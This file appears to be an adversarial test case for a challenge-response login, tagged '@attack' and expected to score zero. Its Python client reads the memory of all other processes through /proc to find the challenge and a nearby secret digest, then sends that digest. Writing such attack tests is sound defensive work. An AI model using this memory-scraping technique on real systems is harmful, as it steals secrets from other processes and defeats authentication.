# @attack  a client that does not work the digest out, but looks for it in the memory of all others beside the challenge
# @expect  zero
import glob
import os
import re
import socket


def memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                first, last, rights = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
                if rights.startswith("rw"):
                    mem.seek(int(first, 16))
                    yield mem.read(min(int(last, 16) - int(first, 16), 1 << 22))
    except (OSError, ValueError, OverflowError):
        return


def found(challenge):
    for path in glob.glob("/proc/[0-9]*"):
        pid = os.path.basename(path)
        if pid in ("self", str(os.getpid())):
            continue
        for part in memory(pid):
            at = part.find(challenge)
            near = re.search(rb"[0-9a-f]{32}", part[max(at - 4096, 0) : at + 4096]) if at >= 0 else None
            if near:
                return near.group()
    return b"0" * 32


def chat(host, port, secret, lines):
    with socket.create_connection((host, port)) as sock:
        sock.sendall(found(sock.recv(32)))
        return [line.upper() for line in lines]
